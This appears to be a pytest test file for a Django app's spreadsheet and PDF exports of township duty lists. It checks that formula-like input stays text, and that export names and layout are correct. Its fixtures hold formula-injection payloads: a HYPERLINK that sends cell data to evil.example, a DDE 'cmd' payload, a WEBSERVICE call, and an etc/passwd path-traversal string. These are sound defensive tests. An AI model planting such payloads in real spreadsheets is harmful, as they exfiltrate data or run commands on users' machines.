"""Exports store what people typed as text: no cell of a spreadsheet the product writes is a formula (等保2.0
level 3, 入侵防范: formula injection), whatever the text starts with."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import support

HOSTILE = {
    "legal_basis": '=HYPERLINK("http://evil.example/?"&A1,"点击查看依据")',
    "funding_source": "+1+cmd|' /C calc'!A0",
    "technical_support": "-2+3",
    "training": "@SUM(1,2)",
    "operating_mechanism": "\t=1+1",
}


@pytest.fixture
def hostile_duty(banner):
    values = {k: v for k, v in HOSTILE.items() if k != "operating_mechanism"}
    return support.admitted(banner, **values).township_duties.order_by("pk").first()


def test_the_duty_list_spreadsheet_keeps_formula_like_text_as_text(client, banner, hostile_duty):
    client.force_login(banner.users["office"])
    response = client.get(reverse("admission:duty_list"), {"format": "xlsx"})
    assert response.status_code == 200

    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)
    cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for field in ("legal_basis", "funding_source", "technical_support", "training"):
        assert HOSTILE[field] in texts, f"{field} was altered or lost"
    # and a program that re-parses a cell on edit keeps it text
    assert all(c.quotePrefix for c in cells if c.value in HOSTILE.values())


def test_the_duty_list_spreadsheet_is_laid_out_for_reading(client, banner):
    """Issue 15: the workbook is written with XlsxWriter, for speed; what a reader sees stays: the title in
    large bold type, the headings, each column's width, every row's cells (empty ones too) wrapped and aligned to the
    top, dates as dates, each duty's case by its number."""
    from web.exports import COLUMN_WIDTHS, COLUMNS

    case = support.admitted(banner)
    client.force_login(banner.users["office"])
    sheet = load_workbook(io.BytesIO(client.get(reverse("admission:duty_list"), {"format": "xlsx"}).content)).active

    assert sheet.title == "职责清单" and sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert [c.value for c in sheet[2]] == list(COLUMNS)
    widths = {i: d.width for d in sheet.column_dimensions.values() for i in range(d.min, d.max + 1)}  # E:F is one
    assert [widths.get(i) for i in range(1, len(COLUMNS) + 1)] == list(COLUMN_WIDTHS)
    rows = list(sheet.iter_rows(min_row=3))
    assert rows and all(len(row) == len(COLUMNS) for row in rows)
    assert all(c.alignment.wrap_text and c.alignment.vertical == "top" for row in rows for c in row)
    assert all(row[15].is_date for row in rows)
    assert all(row[14].value.endswith(f"（{case.reference}）") for row in rows)  # the case's number, read with the duty
    assert not any(c.alignment.wrap_text for c in sheet[2])


def test_the_dashboard_spreadsheet_keeps_a_refusals_formula_like_reasons_as_text(client, banner):
    from workflows.driver import CaseDriver

    duty_request = support.to_under_review(banner)
    support.bureau_opinions(banner, duty_request)
    support.conclude(banner, duty_request)
    CaseDriver(duty_request).decide_at_banner(
        banner.users["leadership"], approves=False, reasons='=WEBSERVICE("http://evil.example") 经费来源不明确'
    )

    client.force_login(banner.users["office"])
    response = client.get(reverse("admission:dashboard"), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert '=WEBSERVICE("http://evil.example") 经费来源不明确' in {c.value for c in cells}


def test_each_export_is_named_for_what_it_holds_and_when_and_keeps_its_headings_in_view(client, banner):
    """Issue 13: every export was duty-list.xlsx, and its heading row scrolled away."""
    from urllib.parse import quote

    from django.utils import timezone

    support.admitted(banner)
    today = f"{timezone.localdate():%Y%m%d}"
    client.force_login(banner.users["naji"])
    response = client.get(reverse("admission:duty_list"), {"format": "xlsx"})
    assert quote(f"那吉镇履行职责事项清单-{today}.xlsx") in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(response.content)).active.freeze_panes == "C3"
    exited = client.get(reverse("admission:duty_list"), {"format": "pdf", "state": "exited"})
    assert quote(f"那吉镇上级部门收回事项-{today}.pdf") in exited["Content-Disposition"]

    client.force_login(banner.users["office"])
    response = client.get(reverse("admission:dashboard"), {"format": "xlsx", "year": "2026"})
    assert quote(f"阿荣旗2026年乡镇职责准入监督看板-{today}.xlsx") in response["Content-Disposition"]
    assert all(sheet.freeze_panes == "A2" for sheet in load_workbook(io.BytesIO(response.content)).worksheets)


def test_an_export_name_cannot_carry_a_path():
    from web.exports import file_name

    name = file_name('../..\\etc/passwd:"x"', "xlsx")
    assert "/" not in name and "\\" not in name and ":" not in name and name.endswith(".xlsx")
